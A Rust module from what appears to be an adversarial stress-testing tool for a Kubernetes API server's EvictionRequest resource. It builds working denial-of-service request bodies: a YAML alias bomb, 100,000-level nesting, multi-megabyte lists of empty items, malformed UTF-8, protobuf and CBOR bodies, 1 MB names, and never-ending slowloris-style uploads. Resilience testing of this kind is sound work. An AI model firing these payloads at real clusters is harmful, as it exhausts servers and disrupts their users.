//! Request bodies that cost far more than their bytes.

use bytes::Bytes;
use futures::StreamExt;
use http::Method;
use http_body_util::{BodyExt, StreamBody};
use hyper::body::Frame;
use serde_json::{Value, json};

use super::eviction_requests::{Findings, no_findings, request, uid};
use crate::attack::Attack;
use crate::client::{StreamedBody, UserRequest};
use crate::context::AttackContext;

/// Requests at a time.
const LANES: usize = 4;
/// The largest body that is taken (k8s.io/apiserver, MaxRequestBodyBytes).
const LARGEST_BODY: usize = 3 << 20;
/// Slow bodies at a time: half as many again as the server takes mutating requests.
const SLOW: usize = 300;
/// Bytes of a slow body that come at a time.
const PIECE: usize = 64 << 10;
const JSON: &str = "application/json";
const YAML: &str = "application/yaml";

/// The attacks of this module.
pub fn all() -> Vec<Attack> {
    vec![
        Attack::new(
            "owner-references",
            "100 KB in which each owner reference says that it is the controller",
            |f| Box::pin(owner_references(f)),
        ),
        Attack::new("empty-requesters", "3 MB of requesters without a name", |f| {
            Box::pin(empty_requesters(f))
        }),
        Attack::new("short-items", "3 MB of short items in every other list and map", |f| {
            Box::pin(short_items(f))
        }),
        Attack::new("processed-interceptors", "a status with 3 MB of short names", |f| {
            Box::pin(processed(f))
        }),
        Attack::new("deep-nesting", "arrays and objects 100,000 levels deep", |f| Box::pin(deep_nesting(f))),
        Attack::new("yaml-aliases", "YAML whose aliases grow without end", |f| Box::pin(yaml_aliases(f))),
        Attack::new("invalid-text", "bodies that are no UTF-8, or no media type's", |f| {
            Box::pin(invalid_text(f))
        }),
        Attack::new("generate-name", "names of 1 MB, asked for and made up", |f| Box::pin(generate_name(f))),
        Attack::new("slow-bodies", "300 bodies of 3 MB that never end", |f| Box::pin(slow_bodies(f))),
    ]
}

async fn owner_references(context: AttackContext) -> Findings {
    let owner = |at: usize| json!({"apiVersion": "v1", "kind": "P", "name": "n", "uid": at.to_string(), "controller": true});
    let mut object = request(0);
    object["metadata"]["ownerReferences"] = (0..1_400).map(owner).collect();
    post(&context, JSON, vec![object.to_string().into()]).await
}

async fn empty_requesters(context: AttackContext) -> Findings {
    post(&context, JSON, vec![with("requesters", &list("{}"))]).await
}

async fn short_items(context: AttackContext) -> Findings {
    let keys: Vec<String> = (0..200_000).map(|at| format!(r#""{at}":"""#)).collect();
    let map = format!("{{{}}}", keys.join(","));
    let bodies = vec![
        with("finalizers", &list(r#""""#)),
        with("ownerReferences", &list("{}")),
        with("managedFields", &list("{}")),
        with("labels", &map),
        with("annotations", &map),
        with("unknown", &list("[]")),
    ];
    post(&context, JSON, bodies).await
}

async fn processed(context: AttackContext) -> Findings {
    let name = context.setup.lasting_request(&context.tenant).await?;
    let names: Vec<String> = (0..250_000).map(|at| format!("a{at}.b")).collect();
    let path = format!("{}/status", context.tenant.request(&name));
    let ask = UserRequest::merge(path, &json!({"status": {"processedInterceptors": names}}));
    context.repeat_requests(LANES, move |_, _| ask.clone()).await;
    no_findings()
}

async fn deep_nesting(context: AttackContext) -> Findings {
    let arrays = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let objects = format!("{}1{}", r#"{"a":"#.repeat(100_000), "}".repeat(100_000));
    let asks: Vec<UserRequest> = [arrays, objects]
        .iter()
        .flat_map(|deep| {
            let path = context.tenant.requests();
            [JSON, YAML].map(|type_| UserRequest::body(Method::POST, &path, type_, with("unknown", deep)))
        })
        .collect();
    context.repeat_requests(LANES, move |_, round| asks[round % asks.len()].clone()).await;
    no_findings()
}

async fn yaml_aliases(context: AttackContext) -> Findings {
    let mut text = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for level in 1..30 {
        let below = vec![format!("*a{}", level - 1); 10].join(", ");
        text += &format!("a{level}: &a{level} [{below}]\n");
    }
    let object = format!("{}\nmetadata: {{name: {}}}\nspec: *a29\n", head(), uid(0));
    let body = format!("{text}{object}");
    let flat = format!("{}\nb: &b {}\nc: [{}]\n", head(), list("x"), vec!["*b"; 100_000].join(","));
    let mut asks: Vec<UserRequest> = [&body, &flat]
        .map(|text| UserRequest::body(Method::POST, context.tenant.requests(), YAML, text.clone()))
        .into();
    let applied = format!("{}?fieldManager=hostile", context.tenant.request(&uid(0)));
    asks.extend([body, flat].map(|text| UserRequest::apply(&applied, text)));
    context.repeat_requests(LANES, move |_, round| asks[round % asks.len()].clone()).await;
    no_findings()
}

async fn invalid_text(context: AttackContext) -> Findings {
    let path = context.tenant.requests();
    let mut broken = request(0).to_string().into_bytes();
    broken.splice(20..20, [0xff, 0xfe, 0xc3]);
    let lone = request(0).to_string().replace("nowhere", r"\ud800");
    let envelope = [&b"k8s\0"[..], &[0xff; 100_000]].concat();
    let bodies: [(&str, Bytes); 6] = [
        (JSON, broken.clone().into()),
        (YAML, broken.into()),
        (JSON, lone.into()),
        ("application/vnd.kubernetes.protobuf", envelope.into()),
        (
            "application/vnd.kubernetes.protobuf",
            Bytes::from_static(b"k8s\0\x12\xff\xff\xff\xff\xff\xff\xff\xff\x7f"),
        ),
        ("application/cbor", Bytes::from_static(&[0x9f; 1000])),
    ];
    let asks = bodies.map(|(type_, body)| UserRequest::body(Method::POST, &path, type_, body));
    context.repeat_requests(LANES, move |_, round| asks[round % asks.len()].clone()).await;
    no_findings()
}

async fn generate_name(context: AttackContext) -> Findings {
    let long = "a".repeat(1 << 20);
    let mut generated = request(0);
    generated["metadata"] = json!({"generateName": long});
    let mut named = request(0);
    named["metadata"]["name"] = json!(long);
    named["spec"]["target"]["pod"] = json!({"name": long, "uid": long});
    post(&context, JSON, vec![generated.to_string().into(), named.to_string().into()]).await
}

async fn slow_bodies(context: AttackContext) -> Findings {
    let ask = UserRequest::body(Method::POST, context.tenant.requests(), JSON, "");
    let each = context.clone();
    context
        .repeat(SLOW, move |_, _| {
            let (context, ask) = (each.clone(), ask.clone());
            async move {
                let answer = context.connect().await?.send_body(&ask, slow()).await?;
                context.count(answer.status().as_str());
                Ok(())
            }
        })
        .await;
    no_findings()
}

/// A body without its last byte, which never comes.
fn slow() -> StreamedBody {
    let pieces = futures::stream::repeat_with(|| Ok(Frame::data(Bytes::from(vec![b' '; PIECE]))));
    BodyExt::boxed(StreamBody::new(pieces.take(LARGEST_BODY / PIECE - 1).chain(futures::stream::pending())))
}

async fn post(context: &AttackContext, type_: &'static str, bodies: Vec<Bytes>) -> Findings {
    let path = context.tenant.requests();
    let asks: Vec<UserRequest> =
        bodies.into_iter().map(|body| UserRequest::body(Method::POST, &path, type_, body)).collect();
    context.repeat_requests(LANES, move |_, round| asks[round % asks.len()].clone()).await;
    no_findings()
}

/// A request in which one field of metadata or spec has this JSON.
fn with(name: &str, json: &str) -> Bytes {
    let mut object = request(0);
    let at = if name == "requesters" { "spec" } else { "metadata" };
    object[at][name] = Value::from("HERE");
    object.to_string().replace(r#""HERE""#, json).into()
}

/// A list of so many of these that it is as long as a body may be.
fn list(item: &str) -> String {
    let count = (LARGEST_BODY - 4096) / (item.len() + 1);
    format!("[{}]", vec![item; count].join(","))
}

fn head() -> String {
    format!("apiVersion: {}\nkind: EvictionRequest", drydock_api::API_VERSION)
}
